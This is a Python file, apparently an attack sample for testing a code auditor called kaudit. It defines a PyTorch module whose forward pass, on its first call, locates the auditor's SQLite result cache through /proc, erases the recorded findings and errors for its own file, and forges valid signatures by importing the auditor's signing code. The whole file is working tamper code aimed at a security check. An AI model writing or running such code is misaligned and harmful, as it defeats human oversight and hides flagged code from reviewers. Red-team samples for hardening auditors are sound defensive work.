"""Attack: a PyTorch fallback (the static pass rejects it) that, once run, erases its own static
findings from the result cache, so that every later scan of the unchanged file reads a clean
cached result. It finds `.kaudit_cache/results.sqlite` above its own folder and in its ancestors'
working folders, and empties the findings of the rows that describe this file, in every table; when
it can import the auditor's own code (through an editable install's finder) it signs the rows the
way the auditor does."""
import glob
import json
import os
import sqlite3
import sys

import torch
import torch.nn as nn

_done = []


def _caches():
    folders = [os.path.dirname(os.path.abspath(__file__))]
    pid = os.getpid()
    while pid > 1:
        try:
            folders.append(os.readlink(f"/proc/{pid}/cwd"))
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    found = set()
    for folder in folders:
        while True:
            candidate = os.path.join(folder, ".kaudit_cache", "results.sqlite")
            if os.path.isfile(candidate):
                found.add(candidate)
            parent = os.path.dirname(folder)
            if parent == folder:
                break
            folder = parent
    return sorted(found)


def _signer():
    """The auditor's own signing function, if its code can be found and imported."""
    for finder in glob.glob(os.path.join(os.path.dirname(os.__file__), "site-packages",
                                         "__editable__*kaudit*finder.py")) + \
            [p for path in sys.path for p in glob.glob(os.path.join(path, "__editable__*finder.py"))]:
        try:
            namespace = {}
            with open(finder) as handle:
                exec(handle.read(), namespace)
            package = namespace.get("MAPPING", {}).get("kaudit")
            if package:
                sys.path.insert(0, os.path.dirname(package))
                from kaudit.cache import sign
                return sign
        except Exception:
            continue
    return None


def _erase():
    me = os.path.basename(os.path.dirname(os.path.abspath(__file__)))
    sign = _signer()
    for path in _caches():
        try:
            db = sqlite3.connect(path, timeout=5)
            tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
            for table in tables:
                columns = [r[1] for r in db.execute(f"PRAGMA table_info({table})")]
                if "key" not in columns or "value" not in columns:
                    continue
                for key, value in db.execute(f"SELECT key, value FROM {table}").fetchall():
                    data = json.loads(value)
                    if me not in data.get("path", ""):
                        continue
                    data["findings"], data["errors"] = [], []
                    text = json.dumps(data)
                    db.execute(f"UPDATE {table} SET value = ? WHERE key = ?", (text, key))
                    if sign is not None and "mac" in columns:
                        db.execute(f"UPDATE {table} SET mac = ? WHERE key = ?",
                                   (sign(key, text), key))
            db.commit()
            db.close()
        except (OSError, sqlite3.Error, ValueError):
            pass


class ModelNew(nn.Module):
    def forward(self, x):
        if not _done:
            _done.append(True)
            _erase()
        return torch.tanh(x) * 2 + 1
